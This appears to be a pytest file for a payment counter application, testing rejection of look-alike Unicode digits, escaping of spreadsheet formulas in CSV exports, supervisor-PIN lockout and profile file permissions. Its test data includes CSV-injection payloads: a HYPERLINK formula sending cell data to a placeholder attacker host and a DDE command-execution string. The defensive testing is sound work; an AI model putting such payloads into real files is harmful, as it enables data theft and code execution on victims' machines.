"""Smaller holes: look-alike digits, spreadsheet formulas in exports, supervisor-PIN guessing,
and the profile's file permissions."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import datetime

import pytest

from services import validation
from services.clock import WIB, FixedClock
from services.dayclose import CASH_CORRECTION, DayCloseService, InvalidSupervisorPin
from services.dayclose.supervisor import REFUSED, RIGHT, WRONG
from services.errors import UserInputError
from services.flows.base import transaction_pin
from services.hosts.bca.service import BcaService
from services.hosts.doku.service import VirtualAccountService, normalise_phone
from services.journal import Journal, State, export
from services.lockout import LockedOut
from services.products.spec import InputField
from services.quick_pin import check_shape
from services.reports import render_csv

LOOKALIKES = ["١٢٣٤٥٦٧٨٩٠", "１２３４５６７８９０", "¹²³⁴⁵⁶⁷⁸⁹⁰", "123٤567890"]


@pytest.mark.parametrize("typed", LOOKALIKES)
def test_look_alike_digits_are_refused_where_digits_are_validated(typed):
    assert typed.isdigit()  # what let them through
    for check in (lambda: validation.account_number("account", typed),
                  lambda: validation.digits("customer", typed, "Nomor pelanggan"),
                  lambda: validation.phone("phone", "08" + typed),
                  lambda: validation.pin("pin", typed[:6]),
                  lambda: InputField("idpel", "ID Pelanggan", max_length=20).clean(typed),
                  lambda: check_shape(typed[:6])):
        with pytest.raises(UserInputError):
            check()
    assert validation.account_number("account", "1234567890") == "1234567890"


@pytest.mark.parametrize("typed", LOOKALIKES)
def test_look_alike_digits_never_reach_a_snap_host(typed):
    """The VA customer number and phone, and a BCA account, go on the wire as typed."""
    va = VirtualAccountService(client=None, runner=None, clock=FixedClock(datetime(2026, 11, 21, 9, tzinfo=WIB)))
    with pytest.raises(UserInputError) as refused:
        va.validate(customer_no=typed, name="SITI RAHAYU", amount=150_000)
    assert refused.value.field == "customer_no"
    with pytest.raises(UserInputError):
        normalise_phone("08" + typed)
    assert normalise_phone("0812-3456-7890") == "6281234567890"
    bca = BcaService(client=None, runner=None, clock=FixedClock(datetime(2026, 11, 21, 9, tzinfo=WIB)))
    with pytest.raises(UserInputError) as refused:
        bca.interbank_inquiry("BRINIDJA", typed)
    assert refused.value.field == "account_no"
    with pytest.raises(UserInputError):
        transaction_pin(typed[:6])


def paid(journal: Journal, name: str, customer: str = "5550001") -> None:
    ref = journal.next_reference()
    journal.begin(reference=ref, host="bankplus", product="deposit", product_group="banking", amount=50_000,
                  fee=0, operator="kasir1", customer_ref=customer, customer_name=name, request={})
    journal.transition(ref, State.SENT, actor="kasir1", reason="dikirim")
    journal.transition(ref, State.SUCCESS, actor="system", reason="ok", host_ref="@SUM(A1:A9)")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+62811", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_the_journal_csv_export_escapes_formulas(journal):
    for name in FORMULAS:
        paid(journal, name)
    out = io.StringIO()
    export.write(export.records_for_day(journal, "2026-11-21", mode="live"), out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["customer_name"] for r in rows] == ["'" + n for n in FORMULAS]
    assert all(r["host_ref"] == "'@SUM(A1:A9)" for r in rows)
    assert rows[0]["amount"] == "50000"
    jsonl = io.StringIO()
    export.write(export.records_for_day(journal, "2026-11-21", mode="live"), jsonl, "jsonl")
    assert '"customer_name":"=HYPERLINK' in jsonl.getvalue()  # the machine format keeps the text


def test_the_report_csv_escapes_formulas_and_keeps_negative_figures(journal):
    with DayCloseService(journal) as days:
        days.supervisors.set_pin("Budi", "482916")
        days.shifts.open(100_000, "kasir1")
        days.shifts.record("pay_out", 20_000, "=HYPERLINK(\"http://x\") beli kertas", "kasir1")
        ref = journal.next_reference()
        journal.begin(reference=ref, host="bankplus", product="deposit", product_group="banking", amount=10_000,
                      fee=0, operator="kasir1", customer_ref="1", customer_name="=cmd|' /C calc'!A0", request={})
        journal.transition(ref, State.SUSPECT, actor="system", reason="putus")
        data = render_csv(days.x_report("2026-11-21")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c[0] in "=+@\t\r" or (c[0] == "-" and not c[1:].isdigit())]
    assert [r["reference"] for r in rows if r["section"] == "open"] == [ref]
    assert [r["total"] for r in rows if r["section"] == "movement"] == ["-20000"]  # a figure stays a figure


def test_supervisor_pin_guesses_are_limited_and_every_attempt_is_recorded(journal):
    clock = FixedClock(datetime(2026, 11, 21, 15, 0, tzinfo=WIB))
    with DayCloseService(journal, clock=clock) as days:
        days.supervisors.set_pin("Budi", "482916")
        for guess in ("000111", "123457", "999990", "555556", "121213"):
            with pytest.raises(InvalidSupervisorPin):
                days.supervisors.approve(guess, "koreksi kas", CASH_CORRECTION)
        with pytest.raises(LockedOut) as locked:
            days.supervisors.approve("482916", "koreksi kas", CASH_CORRECTION)  # even the right one waits
        assert locked.value.seconds == 60
        clock.advance(61)
        with pytest.raises(InvalidSupervisorPin):
            days.supervisors.approve("000112", "koreksi kas", CASH_CORRECTION)
        with pytest.raises(LockedOut) as locked:
            days.supervisors.approve("482916", "koreksi kas", CASH_CORRECTION)
        assert locked.value.seconds == 120  # doubled
        clock.advance(121)
        assert days.supervisors.approve("482916", "koreksi kas", CASH_CORRECTION).approver == "Budi"
        outcomes = [a[2] for a in days.supervisors.attempts()]
    assert outcomes == [WRONG] * 5 + [REFUSED, WRONG, REFUSED, RIGHT]
    # ... and the count survives a restart of the process (a CLI run per guess):
    with DayCloseService(journal, clock=clock) as days:
        for _ in range(5):
            with pytest.raises(InvalidSupervisorPin):
                days.supervisors.approve("000111", "arsip", CASH_CORRECTION)
    with DayCloseService(journal, clock=clock) as days, pytest.raises(LockedOut):
        days.supervisors.approve("482916", "arsip", CASH_CORRECTION)


def test_profile_files_are_0600_and_folders_0700(tmp_path):
    from app.context import build_context
    from services.profile import Profile

    old = os.umask(0o022)
    try:
        context = build_context(Profile(tmp_path / "profile"))
        context.close()
    finally:
        os.umask(old)
    seen = []
    for root, dirs, files in os.walk(tmp_path / "profile"):
        seen += [(os.path.join(root, d), 0o700) for d in dirs] + [(os.path.join(root, f), 0o600) for f in files]
    seen.append((str(tmp_path / "profile"), 0o700))
    assert any(p.endswith("journal.db") for p, _ in seen) and any(p.endswith("secrets.key") for p, _ in seen)
    wrong = [(p, oct(stat.S_IMODE(os.stat(p).st_mode))) for p, mode in seen if stat.S_IMODE(os.stat(p).st_mode) != mode]
    assert wrong == []
